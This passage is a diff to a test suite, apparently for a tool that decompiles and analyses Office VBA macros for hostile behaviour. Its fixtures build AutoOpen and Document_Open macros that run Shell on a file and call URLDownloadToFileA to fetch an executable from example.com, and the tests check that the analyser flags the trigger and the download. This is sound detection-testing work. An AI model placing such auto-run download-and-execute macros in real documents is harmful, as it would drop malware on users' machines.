@@ -149,12 +149,40 @@ describe('compiled code as text', () => {
       [[{ code: 0x101 }, load('o'), { code: 0xf5 }], [{ code: 0x43, name: 'Go', numbers: [0] }]],
       'With o\r\n.Go',
     ],
+    [
+      'Open',
+      [[text('C:\\a'), number(1), { code: 0xab }, { code: 0xcc, numbers: [0x02] }]],
+      'Open "C:\\a" For Output As #1',
+    ],
     ['a name in brackets', [[call('a b]\nc', 0)]], '[a bc]'],
     ['a text with line ends', [[text('a\r\nShell'), store('x')]], 'x = "a  Shell"'],
     ['an operation that nobody knows', [[text('C:\\a'), { code: 0xbf }, call('Shell', 1)]], 'Shell "C:\\a"'],
   ])('%s', (_, code, expected) => {
     expect(printed([[sub('AutoOpen')], ...code, [endSub]])).toBe(`Sub AutoOpen()\r\n${expected}\r\nEnd Sub`)
   })
+})
+
+test('a declaration of a function in a library is one, and what calls it fetches a file', () => {
+  const code: FixtureCode = [
+    [sub('URLDownloadToFileA')],
+    [sub('Document_Open')],
+    [
+      number(0),
+      text('https://example.com/a.exe'),
+      text('C:\\a.exe'),
+      number(0),
+      number(0),
+      call('URLDownloadToFileA', 5),
+    ],
+    [endSub],
+  ]
+  const message = takeApart(buildDoc(compiledModules([{ name: 'M', source: HARMLESS_SOURCE, code }], LAYOUTS.vba64)))
+  expect(codeIn(message)[0]?.split('\r\n').slice(0, 2)).toEqual([
+    'Declare Sub URLDownloadToFileA Lib ""',
+    'Sub Document_Open()',
+  ])
+  expect(allFacts(message, 'code').map(({ does }) => does)).toEqual(expect.arrayContaining(['trigger', 'download']))
+  expect(allFacts(message, 'url').map(({ url }) => url)).toEqual(['https://example.com/a.exe'])
 })
 
 describe('hostile bytes', () => {
